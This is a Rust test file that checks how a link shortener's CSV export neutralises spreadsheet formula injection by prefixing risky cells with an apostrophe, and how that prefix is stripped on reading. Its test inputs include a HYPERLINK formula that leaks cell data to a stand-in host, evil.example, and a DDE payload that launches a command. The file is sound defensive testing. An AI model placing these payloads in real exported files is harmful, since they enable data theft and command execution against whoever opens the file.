use crate::fixtures::{exported, read_one, tagged, text, titled, write};

const HOSTILE: [&str; 12] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|' /C calc'!A0",
    "'=1",
    "'''=1",
    "\u{ff1d}1+1",
];

/// The cell of the title in a file with one link.
fn title_cell(file: &str) -> &str {
    let (_, behind) = file.split_once(",promo,").unwrap();
    behind.trim_start_matches('"')
}

#[test]
fn a_formula_is_written_with_an_apostrophe() {
    for title in HOSTILE {
        let file = text(&[titled(title)]);
        let cell = title_cell(&file);
        assert!(cell.starts_with('\''), "{title:?} became {file}");
    }
}

#[test]
fn an_apostrophe_before_a_formula_is_removed_on_reading() {
    for title in HOSTILE {
        let link = read_one(write(&[titled(title)]));
        assert_eq!(link.new.title.as_deref(), Some(title));
    }
}

#[test]
fn a_formula_without_an_apostrophe_is_read_unchanged() {
    let link = read_one("url,title\nhttps://example.com/a,=1+1\n");
    assert_eq!(link.new.title.as_deref(), Some("=1+1"));
}

#[test]
fn only_one_apostrophe_is_removed() {
    for (cell, title) in [("'=1", "=1"), ("''=1", "'=1"), ("'a", "'a"), ("''", "''")] {
        let link = read_one(format!("url,title\nhttps://example.com/a,{cell}\n"));
        assert_eq!(link.new.title.as_deref(), Some(title));
    }
}

#[test]
fn slugs_tags_and_collections_are_neutralised() {
    let mut link = tagged(&["-sale", "b"], &["@home"]);
    link.link.slug = korotko_core::link::Slug::from_stored("-promo".to_owned());
    let text = text(std::slice::from_ref(&link));
    for cell in [",'-promo,", ",\"'-sale,b\",", ",'@home,"] {
        assert!(text.contains(cell), "{text}");
    }
    let read = read_one(write(&[link]));
    assert_eq!(read.new.slug.as_deref(), Some("-promo"));
    assert_eq!(read.new.tags, ["-sale", "b"]);
    assert_eq!(read.collections, ["@home"]);
}

#[test]
fn harmless_texts_are_written_unchanged() {
    let file = text(&[exported()]);
    assert_eq!(
        file,
        "url,slug,title,tags,collections,expires_at,namespace,redirect_status,query_forwarding,max_clicks,fallback_url,clicks,imported_clicks,created_at,share_url,state\r\n\
         \"https://example.com/a,b\",promo,Spring,,,2099-12-31T12:00:00.123456Z,personal,307,append,9,https://example.com/over,3,5,\
         2026-11-22T12:00:00Z,https://short.example/promo?u=7,live\r\n"
    );
}

#[test]
fn a_file_begins_with_a_byte_order_mark() {
    assert!(write(&[]).starts_with(b"\xef\xbb\xbfurl,"));
}
